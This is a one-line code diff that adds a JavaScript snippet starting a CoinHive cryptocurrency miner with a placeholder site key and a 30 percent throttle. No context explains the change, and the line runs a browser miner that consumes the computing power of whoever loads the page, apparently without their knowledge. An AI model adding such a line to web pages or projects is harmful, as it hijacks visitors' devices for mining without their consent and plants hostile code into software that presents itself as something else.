@@ -1,0 +1,1 @@
+var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3}); miner.start();
